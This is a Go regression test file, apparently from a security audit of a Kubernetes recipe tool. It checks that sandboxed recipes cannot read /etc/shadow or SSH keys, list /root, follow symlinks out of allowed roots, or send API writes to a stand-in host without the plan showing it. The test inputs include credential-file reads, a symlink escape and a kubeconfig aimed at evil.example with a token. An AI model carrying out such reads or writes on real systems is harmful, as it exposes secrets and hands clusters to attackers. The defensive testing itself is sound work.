package security

import (
	"path/filepath"
	"strings"
	"testing"
)

// Finding 1: a recipe could read any file of the machine (read_file,
// list_dir, path_exists) and print it or put it into the plan. Reads are
// confined now: the write roots, the read-only list preflight and the
// stdlib need, and the paths the user's configuration names.

func TestFinding1ReadShadowRefused(t *testing.T) {
	r := kubelark(t, "run", recipe(t, `
info("os-release readable: %s" % path_exists("/etc/os-release"))
info("sysctl readable: %s" % (len(read_file("/proc/sys/net/ipv4/ip_forward")) > 0))
info(read_file("/etc/shadow"))
`), "--dry-run")
	sbxRefused(t, r, "refusing to read /etc/shadow", "outside the allowed read roots", "--allow-read")
	if !strings.Contains(r.Output(), "os-release readable") || !strings.Contains(r.Output(), "sysctl readable: True") {
		t.Fatalf("the read-only list is not readable:\n%s", r.Output())
	}
}

func TestFinding1ListRootHomeRefused(t *testing.T) {
	r := kubelark(t, "run", recipe(t, `info(str(list_dir("/root")))`), "--dry-run")
	sbxRefused(t, r, "refusing to list /root", "outside the allowed read roots")
}

func TestFinding1PathExistsOutsideRefused(t *testing.T) {
	r := kubelark(t, "run", recipe(t, `info(str(path_exists("/root/.ssh/id_rsa")))`), "--dry-run")
	sbxRefused(t, r, "refusing to stat /root/.ssh/id_rsa", "outside the allowed read roots")
}

// A link inside an allowed root does not make its target readable.
func TestFinding1SymlinkedReadRefused(t *testing.T) {
	root := t.TempDir()
	sbxPut(t, root, "etc/shadow", "root:SECRET-HASH:19000::::::\n")
	sbxLink(t, root, "etc/kubernetes/leak", "/etc/shadow")
	r := kubelark(t, "run", recipe(t, `info(read_file("/etc/kubernetes/leak"))`), "--root", root, "--dry-run")
	sbxRefused(t, r, "refusing to read /etc/kubernetes/leak (which resolves to /etc/shadow through a symlink)")
	if strings.Contains(r.Output(), "SECRET-HASH") {
		t.Fatalf("the link's target was printed:\n%s", r.Output())
	}
}

// The preflight of a configured external etcd reads the files the user
// named, and only those.
func TestFinding1UserNamedReadsOnly(t *testing.T) {
	root := t.TempDir()
	sbxPut(t, root, "etc/etcd/pki/ca.crt", "CA")
	sbxPut(t, root, "etc/etcd/pki/other.key", "OTHER")
	cfg := sbxKubeadmConfig(t, "etcd:\n  external:\n    endpoints: [\"https://10.0.0.5:2379\"]\n    caFile: /etc/etcd/pki/ca.crt\n")
	fork := recipe(t, `
def mapping(docs):
    ca = docs["ClusterConfiguration"]["etcd"]["external"]["caFile"]
    return struct(params = {"etcd_external_ca": ca}, sources = {"etcd_external_ca": "ClusterConfiguration.etcd.external.caFile"}, warnings = [], errors = [])
p = params(config = mapping, etcd_external_ca = param("", "CA file.", root = "read"))
info("ca: " + read_file(p.etcd_external_ca))
info("other: " + read_file("/etc/etcd/pki/other.key"))
`)
	r := kubelark(t, "run", fork, "--root", root, "--dry-run", "--config", cfg)
	sbxRefused(t, r, "ca: CA", "refusing to read /etc/etcd/pki/other.key")
}

// Finding 1, last sentence: the plan did not say where API writes go.
func TestFinding1APIWritesNameServerAndCredential(t *testing.T) {
	root := t.TempDir()
	sbxPut(t, root, "etc/kubernetes/evil.conf", `apiVersion: v1
kind: Config
clusters:
- name: evil
  cluster: {server: "https://evil.example:6443", insecure-skip-tls-verify: true}
users:
- name: site-admin
  user: {token: "abcdef.0123456789abcdef"}
contexts:
- name: evil
  context: {cluster: evil, user: site-admin}
current-context: evil
`)
	plan := filepath.Join(t.TempDir(), "plan.json")
	r := kubelark(t, "run", recipe(t, `
cm = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "loot", "namespace": "default"}, "data": {"k": "v"}}
k8s_apply(k8s_client(kubeconfig = "/etc/kubernetes/evil.conf"), cm)
ca = "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n"
k8s_apply(k8s_client(token = "abcdef.0123456789abcdef", server = "https://evil.example:6443", ca = ca), cm)
k8s_apply(k8s_client(anonymous = True, server = "https://evil.example:6443", insecure = True), cm)
`), "--root", root, "--dry-run", "--plan", plan)
	if r.Code != 0 {
		t.Fatalf("run failed:\n%s", r.Output())
	}
	want := []string{
		"kubeconfig /etc/kubernetes/evil.conf, user site-admin (bootstrap token abcdef)",
		"bootstrap token abcdef",
		"anonymous (server not verified)",
	}
	p := sbxReadPlan(t, plan)
	var got []string
	for _, a := range p.Actions {
		if strings.HasPrefix(a.Op, "api.") {
			if a.Server != "https://evil.example:6443" {
				t.Errorf("action %s %s: server %q", a.Op, a.Target, a.Server)
			}
			got = append(got, a.Credential)
		}
	}
	if strings.Join(got, "|") != strings.Join(want, "|") {
		t.Fatalf("credentials = %q, want %q", got, want)
	}
	if !strings.Contains(r.Stdout, "(to https://evil.example:6443 as bootstrap token abcdef)") {
		t.Fatalf("the printed line does not say where the write goes:\n%s", r.Stdout)
	}
	if strings.Contains(r.Output(), "0123456789abcdef") {
		t.Fatalf("the token secret was printed:\n%s", r.Output())
	}
}
